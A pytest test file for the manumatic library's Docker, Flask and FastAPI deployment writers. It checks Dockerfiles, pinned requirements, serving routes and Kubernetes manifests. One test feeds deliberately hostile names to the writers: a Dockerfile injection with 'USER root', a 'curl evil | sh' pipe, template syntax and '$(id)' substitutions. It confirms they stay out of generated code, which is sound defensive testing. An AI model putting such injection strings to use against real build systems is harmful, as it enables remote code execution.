"""What is written for others runs: with the pinned packages alone, and says what the model says."""

import contextlib
import json
import os
import re
import signal
import subprocess
import sys
import time
import zipfile
from collections.abc import Iterator
from importlib.metadata import packages_distributions, version
from pathlib import Path
from typing import Any

import numpy as np
import pytest
import yaml
from serving import DEAR, FLATS, ask, free_port, rows_of, save_flats
from sklearn.compose import make_column_transformer
from sklearn.linear_model import LogisticRegression, Ridge
from sklearn.pipeline import make_pipeline
from sklearn.preprocessing import FunctionTransformer, OneHotEncoder

import manumatic as mm
from manumatic.deliver.containers import write_docker, write_fastapi, write_flask
from manumatic.deliver.runtime import Runtime
from manumatic.deliver.save import Saved
from manumatic.deliver.wheel import make_wheel, pins
from manumatic.errors import ComponentError, DataError

WRITERS = {"docker": write_docker, "flask": write_flask, "fastapi": write_fastapi}
INSTRUCTIONS = {
    *("ADD", "ARG", "CMD", "COPY", "ENTRYPOINT", "ENV", "EXPOSE", "FROM", "HEALTHCHECK", "LABEL"),
    *("RUN", "SHELL", "STOPSIGNAL", "USER", "VOLUME", "WORKDIR"),
}
# Put before everything else on the path: what the requirements do not name cannot be imported.
GUARD = """
import sys

class Guard:
    def find_spec(self, name, path=None, target=None):
        if name.partition(".")[0] in {forbidden!r}:
            raise ModuleNotFoundError("not in requirements.txt: " + name, name=name)

sys.meta_path.insert(0, Guard())
"""


@pytest.fixture(scope="module")
def bundle(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return save_flats(tmp_path_factory.mktemp("bundle") / "flats.mm")


@pytest.fixture(scope="module")
def numbers(tmp_path_factory: pytest.TempPathFactory) -> Saved:
    """The bundle of a model of arrays: a folder."""
    X = np.arange(24.0).reshape(12, 2)
    return mm.save(Ridge().fit(X, range(12)), f"{tmp_path_factory.mktemp('numbers')}/n.mm/", X)


@pytest.fixture(scope="module")
def folders(bundle: Path, tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    """Each folder, written once."""
    top = tmp_path_factory.mktemp("folders")
    return {kind: write(bundle, top / kind) for kind, write in WRITERS.items()}


def instructions(folder: Path) -> list[tuple[str, str]]:
    """Of a Dockerfile without lines that go on: name and the rest."""
    lines = (folder / "Dockerfile").read_text(encoding="utf-8").splitlines()
    return [
        (line.split(" ", 1)[0], line.split(" ", 1)[1])
        for line in lines
        if line.strip() and not line.startswith("#")
    ]


def requirements(folder: Path) -> tuple[str, dict[str, str]]:
    """The wheel, and package → version."""
    wheel, *lines = (folder / "requirements.txt").read_text(encoding="utf-8").split()
    return wheel, dict(line.split("==") for line in lines)


def environment(folder: Path, site: Path) -> dict[str, str]:
    """One where only the wheel of the folder and what requirements.txt names can be imported."""
    wheel, pinned = requirements(folder)
    zipfile.ZipFile(folder / wheel).extractall(site)
    known = {re.sub(r"[-_.]+", "-", name).lower() for name in (*pinned, "manumatic")}
    forbidden = {
        package
        for package, owners in packages_distributions().items()
        if not known & {re.sub(r"[-_.]+", "-", owner).lower() for owner in owners}
    }
    assert {"torch", "sklearn", "pandas", "scipy", "onnx", "skops"} <= forbidden
    (site / "sitecustomize.py").write_text(GUARD.format(forbidden=forbidden))
    return os.environ | {"PYTHONPATH": str(site), "PYTHONDONTWRITEBYTECODE": "1"}


@contextlib.contextmanager
def running(folder: Path, command: list[str], port: int, **variables: str) -> Iterator[Any]:
    """The command in the folder, until it answers /ping; then the process."""
    site = folder.parent / f"site-{folder.name}"
    told = environment(folder, site) | variables
    with subprocess.Popen(command, cwd=folder, env=told, stderr=subprocess.PIPE) as server:
        try:
            end = time.monotonic() + 60
            while time.monotonic() < end:
                assert server.poll() is None, server.stderr.read().decode()
                with contextlib.suppress(OSError):
                    if ask(port, "GET", "/ping")[0] == 200:
                        break
                time.sleep(0.05)
            yield server
        finally:
            server.kill()


# --- the container -------------------------------------------------------------------------------


@pytest.mark.slow
def test_the_dockerfile(folders: dict[str, Path]) -> None:
    found = instructions(folders["docker"])
    assert {name for name, _ in found} <= INSTRUCTIONS
    last = dict(found)
    assert last["FROM"] == f"python:{sys.version_info.major}.{sys.version_info.minor}-slim"
    assert json.loads(last["ENTRYPOINT"]) == ["python", "serve.py"]  # the exec form is JSON
    assert json.loads(last["CMD"]) == ["serve"]
    assert last["HEALTHCHECK"].endswith('CMD ["python", "serve.py", "health"]')
    assert last["EXPOSE"] == "8080"
    assert int(last["USER"]) > 0
    assert [name for name, _ in found].index("USER") < [name for name, _ in found].index("CMD")
    copied = {name for kind, rest in found if kind == "COPY" for name in rest.split()[:-1]}
    assert copied == {"requirements.txt", requirements(folders["docker"])[0][2:], "serve.py"} | {
        "model.mm"
    }
    assert all((folders["docker"] / name).is_file() for name in copied)
    lines = (folders["docker"] / ".dockerignore").read_text(encoding="utf-8").splitlines()
    assert {line for line in lines if line[0] != "#"} == {"*", *(f"!{name}" for name in copied)}


@pytest.mark.parametrize("kind", WRITERS)
def test_versions_are_those_that_are_installed(folders: dict[str, Path], kind: str) -> None:
    _, pinned = requirements(folders[kind])
    assert {"numpy", "onnxruntime", "msgspec"} <= set(pinned)
    assert {name: version(name).partition("+")[0] for name in pinned} == pinned
    heavy = {"torch", "scikit-learn", "pandas", "scipy", "manumatic"}
    assert not heavy & set(pinned)


def test_what_is_not_installed_is_left_to_pip() -> None:
    assert pins(["no-such-package", "MarkupSafe"]) == [
        f"MarkupSafe=={version('markupsafe')}",
        "no-such-package",
    ]


def test_the_wheel_is_one(tmp_path: Path) -> None:
    """pip reads it, and what it records is what is there."""
    name, content = make_wheel()
    (tmp_path / name).write_bytes(content)
    assert make_wheel() == (name, content)
    command = [sys.executable, "-m", "pip", "install", "-q", "--no-deps", "--no-index"]
    target = ["--no-compile", "--target", str(tmp_path / "site"), str(tmp_path / name)]
    subprocess.run([*command, *target], check=True, capture_output=True)
    shipped = set(zipfile.ZipFile(tmp_path / name).namelist())
    installed = {
        path.relative_to(tmp_path / "site").as_posix()
        for path in (tmp_path / "site").rglob("*")
        if path.is_file() and path.name not in ("INSTALLER", "REQUESTED", "direct_url.json")
    }
    assert installed == shipped
    assert {"manumatic/deliver/serve/server.py", "manumatic/show/templates/serve.html"} <= shipped


def test_the_entry_point_serves_as_the_clouds_ask(bundle: Path, folders: dict[str, Path]) -> None:
    folder, port = folders["docker"], free_port()
    entry = json.loads(dict(instructions(folder))["ENTRYPOINT"])
    command = [sys.executable, *entry[1:], "serve"]  # as SageMaker runs it
    variables = {
        "AIP_HTTP_PORT": str(port),
        "AIP_HEALTH_ROUTE": "/alive",
        "AIP_PREDICT_ROUTE": "/vertex",
    }
    frame = FLATS.head(5)
    labels = Runtime(bundle).predict(frame).tolist()
    with running(folder, command, port, **variables) as server:
        begin = time.monotonic()
        assert ask(port, "GET", "/ping")[0] == 200
        assert time.monotonic() - begin < 2
        for route in ("/invocations", "/score", "/predict"):
            code, answer, _ = ask(port, "POST", route, {"rows": rows_of(frame)})
            assert (code, answer["predictions"]) == (200, labels)
        code, answer, _ = ask(port, "POST", "/vertex", {"instances": rows_of(frame)})
        assert (code, [one["prediction"] for one in answer["predictions"]]) == (200, labels)
        for file, route in (("request.json", "/invocations"), ("instances.json", "/vertex")):
            assert ask(port, "POST", route, (folder / file).read_bytes())[0] == 200
        for route in ("/livez", "/readyz", "/alive", "/v2/models/model", "/v2", "/", "/docs"):
            assert ask(port, "GET", route)[0] == 200
        health = [sys.executable, *entry[1:], "health"]
        assert subprocess.run(health, cwd=folder, env=os.environ | variables).returncode == 0
        server.send_signal(signal.SIGTERM)
        assert server.wait(30) in (0, -signal.SIGTERM)
    asked = subprocess.run(health, cwd=folder, env=os.environ | variables, capture_output=True)
    assert asked.returncode != 0
    assert subprocess.run([sys.executable, "serve.py", "x"], cwd=folder, capture_output=True).stderr


def test_kubernetes_and_the_dockerfile_say_the_same(folders: dict[str, Path]) -> None:
    folder = folders["docker"]
    deployment, service = yaml.safe_load_all((folder / "kubernetes.yaml").read_text())
    pod = deployment["spec"]["template"]
    [container] = pod["spec"]["containers"]
    last = dict(instructions(folder))
    assert pod["spec"]["securityContext"]["runAsUser"] == int(last["USER"])
    assert container["ports"][0]["containerPort"] == int(last["EXPOSE"])
    assert service["spec"]["ports"][0]["targetPort"] == container["ports"][0]["name"]
    labels = (pod["metadata"]["labels"], deployment["spec"]["selector"]["matchLabels"])
    assert labels == (service["spec"]["selector"],) * 2
    probes = ("startupProbe", "livenessProbe", "readinessProbe")
    assert {container[probe]["httpGet"]["path"] for probe in probes} == {"/livez", "/readyz"}


def test_pages_are_there_and_name_files_that_are(folders: dict[str, Path]) -> None:
    folder = folders["docker"]
    pages = {page.name: page.read_text(encoding="utf-8") for page in folder.glob("*.md")}
    clouds = {"CLOUD_SAGEMAKER.md", "CLOUD_VERTEX.md", "CLOUD_AZURE.md", "KUBERNETES.md"}
    assert set(pages) == {"README.md", *clouds}
    for text in pages.values():
        named = re.findall(r"\]\(([A-Z_]+\.md)\)|`([\w.+-]+\.(?:json|yaml|py|mm|txt|whl))`", text)
        for name in filter(None, (name for pair in named for name in pair)):
            assert (folder / name).is_file()


# --- the small apps ------------------------------------------------------------------------------

STARTS = {"flask": ["flask", "run", "--port"], "fastapi": ["uvicorn", "app:app", "--port"]}


@pytest.mark.parametrize("kind", STARTS)
def test_an_app_answers_like_the_model(folders: dict[str, Path], bundle: Path, kind: str) -> None:
    port = free_port()
    model = Runtime(bundle)
    with running(folders[kind], [sys.executable, "-m", *STARTS[kind], str(port)], port):
        code, answer, _ = ask(port, "POST", "/predict", {"rows": rows_of(FLATS)})
        assert code == 200
        assert answer["predictions"] == model.predict(FLATS).tolist()
        assert np.allclose(
            [
                list(row.values()) if isinstance(row, dict) else row
                for row in answer["probabilities"]
            ],
            model.predict_proba(FLATS),
        )
        request = (folders[kind] / "request.json").read_bytes()
        assert ask(port, "POST", "/predict", request)[0] == 200
        broken = [
            b"",
            b"{",
            b"[]",
            b'{"rows": 1}',
            b'{"rows": {"a": 1}}',
            b'{"rows": [1]}',
            b"\xff",
        ]
        broken += [b'{"rows": [{"size": "50", "rooms": 1, "city": "Ulm"}]}', b"[" * 10_000]
        assert {ask(port, "POST", "/predict", body)[0] for body in broken} == {422}
        assert ask(port, "GET", "/" if kind == "flask" else "/openapi.json")[0] == 200
        if kind == "flask":
            assert ask(port, "POST", "/predict", b" " * (2**20 + 1))[0] == 413


@pytest.mark.parametrize("kind", STARTS)
def test_an_app_is_one_page_in_the_style_of_the_house(folders: dict[str, Path], kind: str) -> None:
    text = (folders[kind] / "app.py").read_text(encoding="utf-8")
    assert len(text.splitlines()) <= 60
    assert "torch" not in text
    assert "sklearn" not in text
    config = Path(__file__).parents[2] / "pyproject.toml"
    for command in (["check"], ["format", "--check"]):
        arguments = ["-q", "--no-cache", "--config", str(config), str(folders[kind] / "app.py")]
        ruff = [sys.executable, "-m", "ruff", *command, *arguments]
        subprocess.run(
            ruff, check=True, cwd=folders[kind]
        )  # where manumatic is a package of others


# --- what may be in a bundle, and in a folder ----------------------------------------------------


@pytest.mark.slow
def test_a_hostile_name_changes_nothing(tmp_path: Path, folders: dict[str, Path]) -> None:
    """Names of columns, words, classes and the file: into JSON and the bundle, nowhere else."""
    bad = '"]\nUSER root\nRUN curl evil | sh # {% raw %}{{ 7*7 }} $(id) `id`'
    name = bad.replace('"', "")  # torch.onnx takes no quotes there
    frame = FLATS[["rooms", "city"]].rename(columns={"rooms": name})
    frame["city"] = frame["city"].replace("Ulm", bad)
    columns = make_column_transformer((OneHotEncoder(), ["city"]), remainder="passthrough")
    model = make_pipeline(columns, LogisticRegression()).fit(
        frame, np.where(DEAR == "dear", bad, "x")
    )
    path = mm.save(model, tmp_path / 'a"\nUSER root\n.mm', frame).path
    for kind, write in WRITERS.items():
        found = write(path, tmp_path / kind)
        names = {entry.name for entry in found.iterdir()}
        assert names == {entry.name for entry in folders[kind].iterdir()} - {"__pycache__"}
        for name in names - {"model.mm", "request.json", "instances.json"}:
            assert (found / name).read_bytes() == (folders[kind] / name).read_bytes(), name
        [row] = json.loads((found / "request.json").read_text(encoding="utf-8"))["rows"]
        assert Runtime(found / "model.mm").predict([row])[0] in (bad, "x")


def test_the_bundle_is_the_same_also_from_a_folder(
    bundle: Path, numbers: Saved, tmp_path: Path
) -> None:
    write_flask(bundle, tmp_path / "one")
    assert (tmp_path / "one" / "model.mm").read_bytes() == bundle.read_bytes()
    assert numbers.path.is_dir()
    write_flask(numbers.path, tmp_path / "two")
    assert Runtime(tmp_path / "two" / "model.mm").bundle.digest == numbers.digest


def test_a_model_of_arrays(numbers: Saved, tmp_path: Path) -> None:
    found = write_fastapi(numbers.path, tmp_path / "app")
    rows = json.loads((found / "request.json").read_text(encoding="utf-8"))["rows"]
    assert Runtime(numbers.path).predict(rows).shape == (1,)


def test_files_are_not_overwritten_unasked(bundle: Path, tmp_path: Path) -> None:
    (tmp_path / "app").mkdir()
    (tmp_path / "app" / "app.py").write_text("mine")
    with pytest.raises(ComponentError, match=r"app is not an empty folder"):
        write_flask(bundle, tmp_path / "app")
    assert [entry.name for entry in (tmp_path / "app").iterdir()] == ["app.py"]
    write_flask(bundle, tmp_path / "app", force=True)
    assert "Runtime" in (tmp_path / "app" / "app.py").read_text()
    with pytest.raises(ComponentError, match=r"app\.py is not an empty folder"):
        write_flask(bundle, tmp_path / "app" / "app.py", force=True)


def halved(X: Any) -> Any:
    """Of a user; nobody knows it as ONNX."""
    return np.asarray(X) / 2


def test_a_model_without_a_graph_gets_no_folder(tmp_path: Path) -> None:
    model = make_pipeline(FunctionTransformer(halved), Ridge()).fit([[1.0], [2.0]], [1.0, 2.0])
    saved = mm.save(model, tmp_path / "model.mm")
    with pytest.raises(DataError, match=r"cannot be served without the estimator"):
        write_docker(saved.path, tmp_path / "app")
    assert not (tmp_path / "app").exists()
